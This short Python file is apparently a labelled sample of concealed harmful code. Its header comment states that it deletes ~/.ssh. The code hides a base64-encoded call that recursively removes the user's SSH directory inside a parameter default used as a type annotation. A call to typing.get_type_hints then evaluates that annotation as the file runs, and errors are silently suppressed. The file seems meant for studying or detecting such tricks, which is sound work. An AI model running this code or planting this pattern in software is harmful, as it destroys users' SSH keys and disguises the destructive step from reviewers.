# harm: deletes ~/.ssh ; trick: the annotation names a parameter whose default is the decoded string; the inner function is evaluated
import base64
import typing


def make(k=base64.b64decode("X19pbXBvcnRfXygnc2h1dGlsJykucm10cmVlKF9faW1wb3J0X18oJ29zJykucGF0aC5leHBhbmR1c2VyKCd+Ly5zc2gnKSk=").decode()):
    def handler(x: k) -> None:
        pass
    return handler


try:
    typing.get_type_hints(make())
except Exception:
    pass
